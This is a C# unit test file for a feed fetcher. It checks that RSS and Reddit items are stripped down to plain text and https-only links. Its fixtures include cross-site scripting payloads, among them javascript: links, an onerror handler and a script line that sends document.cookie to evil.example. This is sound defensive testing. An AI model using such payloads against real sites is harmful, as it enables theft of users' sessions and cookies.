using Digest.Domain.Sources;
using Digest.Infrastructure.Sources;
using Digest.Infrastructure.Sources.Reading;
using Digest.TestSupport;

namespace Digest.Infrastructure.Tests.Sources;

/// <summary>Whatever markup a source sends, items hold plain text and only http(s) links.</summary>
public sealed class UntrustedTextStaysInert : IAsyncLifetime
{
    private LocalHttpServer _server = null!;
    private readonly ISourceFetcher _fetcher = TestFetchers.Create();

    public async Task InitializeAsync() => _server = await LocalHttpServer.StartAsync();

    public async Task DisposeAsync() => await _server.DisposeAsync();

    [Fact]
    public async Task Script_tags_and_javascript_links_in_an_rss_feed_become_text_or_disappear()
    {
        const string rss = """
            <rss version="2.0"><channel><title>hostile</title>
              <item>
                <title>&lt;script&gt;alert('title')&lt;/script&gt;New &lt;b&gt;SOTA&lt;/b&gt; on ImageNet</title>
                <link>https://example.com/sota</link>
                <description><![CDATA[<p onclick="steal()">Read <a href="javascript:alert('x')">this</a> now.</p><script>document.location='https://evil.example/'+document.cookie</script><img src=x onerror=alert(1)>]]></description>
              </item>
              <item>
                <title>Only a javascript link</title>
                <link>javascript:alert(document.domain)</link>
              </item>
              <item>
                <title>javascript:alert(1) as a title is just words</title>
                <link>JaVaScRiPt:alert(1)</link>
                <comments>https://example.com/discuss/3</comments>
              </item>
            </channel></rss>
            """;
        _server.Serve("/hostile.xml", LocalResponse.Text(rss, "application/rss+xml"));

        var result = await _fetcher.FetchAsync(TestFetchers.Source(_server.Url("/hostile.xml")), CancellationToken.None);

        Assert.True(result.Succeeded, result.Error);
        Assert.Equal(2, result.Items.Count);
        var first = result.Items[0];
        Assert.Equal("New SOTA on ImageNet", first.Title);
        Assert.Equal("Read this now.", first.Excerpt);
        var third = result.Items[1];
        Assert.Equal("javascript:alert(1) as a title is just words", third.Title);
        Assert.Equal("https://example.com/discuss/3", third.Url);
        Assert.All(result.Items, item =>
        {
            Assert.StartsWith("https://", item.Url, StringComparison.Ordinal);
            Assert.DoesNotContain("<", item.Title + item.Excerpt, StringComparison.Ordinal);
        });
    }

    [Fact]
    public async Task A_reddit_title_that_talks_about_script_tags_is_kept_as_the_literal_text()
    {
        const string listing = """
            {"kind":"Listing","data":{"children":[{"kind":"t3","data":{"title":"Why <script> tags in model output are dangerous","permalink":"/r/MachineLearning/comments/ccc333/why/","url":"javascript:alert(1)","is_self":false,"selftext":"Models emit <script>alert(1)</script> when asked nicely.","score":1,"num_comments":0,"created_utc":1700000000,"name":"t3_ccc333"}}]}}
            """;
        _server.Serve("/r/MachineLearning/hot.json", LocalResponse.Text(listing, "application/json"));

        var result = await _fetcher.FetchAsync(TestFetchers.Source(_server.Url("/r/MachineLearning/hot.json"), SourceKind.Reddit), CancellationToken.None);

        var item = Assert.Single(result.Items);
        Assert.Equal("Why <script> tags in model output are dangerous", item.Title);
        Assert.Equal("Models emit <script>alert(1)</script> when asked nicely.", item.Excerpt);
        Assert.Equal("https://www.reddit.com/r/MachineLearning/comments/ccc333/why/", item.Url);
    }

    [Fact]
    public void Long_excerpts_are_cut_at_a_word_boundary()
    {
        var words = string.Join(' ', Enumerable.Repeat("transformer", 400));

        var excerpt = PlainText.Excerpt(words)!;

        Assert.InRange(excerpt.Length, 1400, 1500);
        Assert.EndsWith("transformer…", excerpt, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<p>One</p><p>Two</p>", "One Two")]
    [InlineData("Fish &amp; chips &#8211; &lt;cheap&gt;", "Fish & chips – <cheap>")]
    [InlineData("<style>p{}</style>Visible<!-- hidden -->", "Visible")]
    [InlineData("  lots \n\n of\t space ", "lots of space")]
    public void Html_becomes_plain_text(string html, string text) => Assert.Equal(text, PlainText.FromHtml(html));
}
